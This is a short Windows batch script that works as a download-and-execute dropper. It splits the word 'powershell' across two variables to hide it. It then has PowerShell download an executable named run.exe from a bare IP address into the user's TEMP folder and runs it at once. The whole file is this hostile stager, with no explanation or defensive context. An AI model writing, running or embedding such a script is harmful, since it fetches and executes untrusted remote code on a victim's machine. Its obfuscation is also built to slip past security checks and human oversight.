@echo off
set a=po
set b=wershell
%a%%b% -c "Invoke-WebRequest http://192.0.2.12/run.exe -OutFile %TEMP%\run.exe"
start %TEMP%\run.exe
